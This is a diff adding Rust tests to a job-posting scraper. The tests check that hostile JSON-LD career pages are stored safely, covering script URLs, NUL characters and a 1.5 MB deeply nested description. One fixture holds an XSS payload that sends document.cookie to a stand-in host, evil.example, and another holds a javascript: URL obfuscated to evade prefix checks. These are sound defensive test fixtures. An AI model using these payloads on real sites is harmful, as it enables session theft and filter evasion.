@@ -1591,3 +1591,194 @@ async fn a_posting_whose_id_is_longer_than_the_column_is_found_again_on_the_next
         );
     }
 }
+
+// ---------------------------------------------------------------------------------------------
+// Hostile scraped content (issue #11): links, NULs
+
+/// A career page anyone could point a `jsonld` run at, with three postings whose `url`s are a
+/// script link, a script link spelled to slip past a prefix check, and a relative link.
+const HOSTILE_LINKS_PAGE: &str = r#"<!DOCTYPE html>
+<html lang="en"><head><meta charset="utf-8"><title>Careers | Example Pty Ltd</title>
+<script type="application/ld+json">
+[{"@context":"https://schema.org","@type":"JobPosting","identifier":"XSS-1",
+  "title":"Barista","url":"javascript:fetch('//evil.example/'+document.cookie)",
+  "description":"<p>Make coffee.</p>","datePosted":"2026-11-20",
+  "hiringOrganization":{"@type":"Organization","name":"Example Pty Ltd"},
+  "jobLocation":{"@type":"Place","address":{"addressLocality":"Sydney","addressRegion":"NSW","addressCountry":"AU"}}},
+ {"@context":"https://schema.org","@type":"JobPosting","identifier":"XSS-2",
+  "title":"Cook","url":" \u0001JaVa\tScRiPt:alert(1)",
+  "description":"<p>Cook things.</p>","datePosted":"2026-11-20",
+  "hiringOrganization":{"@type":"Organization","name":"Example Pty Ltd"}},
+ {"@context":"https://schema.org","@type":"JobPosting","identifier":"REL-3",
+  "title":"Dishwasher","url":"/careers/jobs/3",
+  "description":"<p>Wash dishes.</p>","datePosted":"2026-11-20",
+  "hiringOrganization":{"@type":"Organization","name":"Example Pty Ltd"}}]
+</script></head>
+<body><h1>Join us</h1><ul><li><a href="/careers/jobs/3">Dishwasher</a></li></ul></body></html>"#;
+
+#[tokio::test]
+async fn a_jsonld_page_with_script_urls_stores_web_links_only() {
+    for db in testkit::databases("engine_hostile_links").await {
+        let h = Harness::new(&db).await;
+        let path = careers_path("hostile-links");
+        h.server.set_body(&path, HOSTILE_LINKS_PAGE);
+        let page = h.server.url(&path);
+
+        let out = h.run(Source::Jsonld, target(page.as_str())).await;
+        check_succeeded(&out, Source::Jsonld);
+        assert_eq!(out.report.counters.jobs_new, 3, "{:?}", db.backend);
+
+        let host = "127.0.0.1";
+        for id in ["XSS-1", "XSS-2"] {
+            let p = posting(h.db(), Source::Jsonld, &format!("{host}:{id}")).await;
+            assert_eq!(p.url, page.as_str(), "{id}: the page's own URL stands in");
+            assert_eq!(p.apply_url, None, "{id}");
+        }
+        let p = posting(h.db(), Source::Jsonld, &format!("{host}:REL-3")).await;
+        assert_eq!(p.url, h.server.url("/careers/jobs/3").as_str());
+        let script_urls = count(
+            h.db(),
+            "SELECT COUNT(*) AS n FROM job_postings WHERE LOWER(url) NOT LIKE 'http%' \
+             OR LOWER(apply_url) NOT LIKE 'http%'",
+        )
+        .await;
+        assert_eq!(script_urls, 0, "{:?}", db.backend);
+    }
+}
+
+/// A posting whose title, description and JSON carry NUL characters: PostgreSQL refuses them in
+/// `text` and `jsonb`, which used to fail the page on every retry.
+const NUL_PAGE: &str = r#"<!DOCTYPE html>
+<html><head><title>Careers</title>
+<script type="application/ld+json">
+{"@context":"https://schema.org","@type":"JobPosting","identifier":"NUL-1",
+ "title":"Night\u0000 Fill Assistant",
+ "description":"<p>Stack\u0000 shelves &amp; rotate stock.</p><p>Nights\u0000 only.</p>",
+ "datePosted":"2026-11-21","employmentType":"PART_TIME",
+ "hiringOrganization":{"@type":"Organization","name":"Example\u0000 Grocers"},
+ "jobLocation":{"@type":"Place","address":{"addressLocality":"Perth\u0000","addressRegion":"WA","addressCountry":"AU"}},
+ "baseSalary":{"@type":"MonetaryAmount","currency":"AUD","value":{"@type":"QuantitativeValue","value":31.5,"unitText":"HOUR"}},
+ "x-notes\u0000":{"deep":["a\u0000b",{"k\u0000":"v\u0000"}]}}
+</script></head><body><p>Night fill</p></body></html>"#;
+
+#[tokio::test]
+async fn a_posting_with_nul_characters_is_stored_without_them_on_every_database() {
+    for db in testkit::databases("engine_nul").await {
+        let h = Harness::new(&db).await;
+        let path = careers_path("nul");
+        h.server.set_body(&path, NUL_PAGE);
+        let page = h.server.url(&path);
+
+        let out = h.run(Source::Jsonld, target(page.as_str())).await;
+        check_succeeded(&out, Source::Jsonld);
+        assert_eq!(out.report.counters.jobs_new, 1, "{:?}", db.backend);
+
+        let p = posting(h.db(), Source::Jsonld, "127.0.0.1:NUL-1").await;
+        assert_eq!(p.title, "Night Fill Assistant", "{:?}", db.backend);
+        assert_eq!(p.company.as_deref(), Some("Example Grocers"));
+        assert_eq!(p.city.as_deref(), Some("Perth"));
+        let html = p.description_html.clone().unwrap();
+        assert_eq!(
+            html,
+            "<p>Stack shelves &amp; rotate stock.</p><p>Nights only.</p>"
+        );
+        assert_clean_description(&p);
+        let raw = p.raw.clone().unwrap();
+        assert_eq!(raw["title"], "Night Fill Assistant");
+        assert_eq!(raw["x-notes"], json!({"deep": ["ab", {"k": "v"}]}));
+        assert!(!raw.to_string().contains("\\u0000"), "{raw}");
+
+        // The same page again: unchanged, not failed.
+        let again = h.run(Source::Jsonld, target(page.as_str())).await;
+        check_succeeded(&again, Source::Jsonld);
+        assert_eq!(again.report.counters.jobs_unchanged, 1);
+    }
+}
+
+/// A career page whose first posting's description is 1.5 MB of `<div>`s nested 140,000 deep
+/// (html5ever's time grows with the square of the depth), next to an ordinary posting.
+fn nested_div_page() -> String {
+    let depth = 1_500_000 / 11;
+    let description = format!(
+        "<p>Pack orders.</p>{}deep{}",
+        "<div>".repeat(depth),
+        "</div>".repeat(depth)
+    );
+    let postings = json!([
+        {"@context": "https://schema.org", "@type": "JobPosting", "identifier": "DEEP-1",
+         "title": "Picker Packer", "description": description, "datePosted": "2026-11-22",
+         "hiringOrganization": {"@type": "Organization", "name": "Example Logistics"}},
+        {"@context": "https://schema.org", "@type": "JobPosting", "identifier": "OK-2",
+         "title": "Forklift Driver", "description": "<p>Drive forklifts.</p>",
+         "datePosted": "2026-11-22",
+         "hiringOrganization": {"@type": "Organization", "name": "Example Logistics"}}
+    ]);
+    format!(
+        "<!DOCTYPE html><html><head><title>Careers</title>\
+         <script type=\"application/ld+json\">{postings}</script></head>\
+         <body><h1>Careers</h1></body></html>"
+    )
+}
+
+#[tokio::test]
+async fn a_huge_nested_description_is_cut_counted_and_does_not_stall_the_runtime() {
+    for db in testkit::databases("engine_nested_divs").await {
+        let h = Harness::new(&db).await;
+        let path = careers_path("nested");
+        h.server.set_body(&path, nested_div_page());
+        let page = h.server.url(&path);
+
+        // A task on the same runtime measures how long it goes without being polled while the
+        // run parses: lease heartbeats and other runs' requests would wait as long.
+        let done = CancellationToken::new();
+        let ticker = tokio::spawn({
+            let done = done.clone();
+            async move {
+                let mut worst = Duration::ZERO;
+                let mut last = Instant::now();
+                while !done.is_cancelled() {
+                    tokio::time::sleep(Duration::from_millis(5)).await;
+                    worst = worst.max(last.elapsed());
+                    last = Instant::now();
+                }
+                worst
+            }
+        });
+        let out = h.run(Source::Jsonld, target(page.as_str())).await;
+        done.cancel();
+        let worst = ticker.await.unwrap();
+
+        check_succeeded(&out, Source::Jsonld);
+        let c = out.report.counters;
+        assert_eq!(
+            (c.jobs_new, c.descriptions_truncated),
+            (2, 1),
+            "{:?}",
+            db.backend
+        );
+        assert_eq!(
+            out.report.run.descriptions_truncated, 1,
+            "stored on the run row"
+        );
+        let p = posting(h.db(), Source::Jsonld, "127.0.0.1:DEEP-1").await;
+        let html = p.description_html.as_deref().unwrap();
+        assert!(html.starts_with("<p>Pack orders.</p>"), "{}", &html[..100]);
+        assert!(html.ends_with(&format!("<p>{}</p>", ingest::normalize::TRUNCATION_NOTE)));
+        assert!(html.len() < 600 * 1024, "{} bytes", html.len());
+        assert!(
+            p.description_text
+                .as_deref()
+                .unwrap()
+                .ends_with(ingest::normalize::TRUNCATION_NOTE)
+        );
+        let ok = posting(h.db(), Source::Jsonld, "127.0.0.1:OK-2").await;
+        assert_eq!(
+            ok.description_html.as_deref(),
+            Some("<p>Drive forklifts.</p>")
+        );
+        assert!(
+            worst < Duration::from_millis(750),
+            "the runtime went {worst:?} without polling other tasks"
+        );
+    }
+}
